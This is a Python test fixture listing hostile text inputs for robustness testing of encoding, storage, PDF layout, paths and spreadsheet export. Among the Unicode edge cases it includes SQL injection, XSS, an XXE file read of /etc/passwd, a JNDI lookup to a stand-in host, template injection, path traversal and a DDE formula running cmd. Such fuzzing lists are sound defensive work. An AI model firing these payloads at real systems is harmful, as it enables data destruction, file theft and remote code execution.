"""Text an agent could paste, a broken keyboard or another program could produce, or an attacker
could write: each one aims at a way text is mishandled (encoding, storage, SQL, markup in the
PDF layout, format strings, paths, spreadsheets)."""

from __future__ import annotations

import random

from tests.proof.budget import scale

HOSTILE: tuple[str, ...] = (
    # size (longer ones in test_hostile_texts: a PDF takes seconds per 10,000 characters)
    "Ä" * 4_000,
    "mot " * 1_500,
    "x",
    # control characters, null bytes, odd white space
    "avant\x00après",
    "\x00",
    "cloche\x07 retour\x08 échappement\x1b[31m rouge",
    "tab\tcr\rlf\nff\x0cvt\x0b fin",
    "\u2028séparateur de ligne\u2029de paragraphe",
    "\u00a0\u2009\u3000 espaces insécables \ufeff",
    "   ",
    "",
    # Unicode that is not text on its own: surrogates (Python allows them in str)
    "demi \ud800 paire",
    "\udfff",
    "\ud83d\ude00 paire UTF-16",
    "\ufffe\uffff non-caractères",
    # right-to-left, marks, emoji, combining
    "\u202eعربي Lëtzebuergesch\u202c \u200fמשפחה\u200e",
    "\u2066isolé\u2069 \u061c marque",
    "👨\u200d👩\u200d👧\u200d👦 famille 🏳️\u200d🌈 🇱🇺",
    "e" + "\u0301" * 200,
    "Z̸̢͓̈́a̷̰͐l̶̢̛g̵̟̈o̴̰͠",
    "ﷺ ꧅ 𒐫 𝔘𝔫𝔦𝔠𝔬𝔡𝔢",
    # SQL
    "'; DROP TABLE person; --",
    "Robert'); DELETE FROM case_file WHERE 1=1; --",
    "\" OR \"1\"=\"1",
    "%' OR '%'='",
    "x' UNION SELECT passphrase FROM key --",
    # markup: HTML, XML, the PDF layout's own
    "<script>alert('x')</script>",
    "<b>gras</b> <i>italique</i> <font color='red'>rouge</font>",
    "<para>paragraphe</para><br/>&amp; &lt; &#x0; &nosuch;",
    "]]><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "<img src=x onerror=alert(1)>",
    # format strings, templates
    "%s %d %(name)s %n %%",
    "{0} {name} {{}} {!r}",
    "${jndi:ldap://x/a} {{7*7}} <%= 7*7 %>",
    # paths
    "../../../../etc/passwd",
    "..\\..\\windows\\system32\\config",
    "C:\\CON\\NUL.txt",
    "/dev/null",
    # spreadsheet formula prefixes
    "=cmd|' /C calc'!A0",
    "+SUM(1;1)",
    "-2+3",
    "@SUM(A1)",
    "=HYPERLINK(\"http://x\";\"clic\")",
)


def hostile_strings(seed: int = 0) -> list[str]:
    """The list, and in the long run as many again built by splicing its parts at random."""
    extra = scale(0, len(HOSTILE) * 4)
    chooser = random.Random(seed)
    spliced = ["".join(chooser.choice(HOSTILE)[:200] for _ in range(chooser.randint(2, 5)))
               for _ in range(extra)]
    return [*HOSTILE, *spliced]
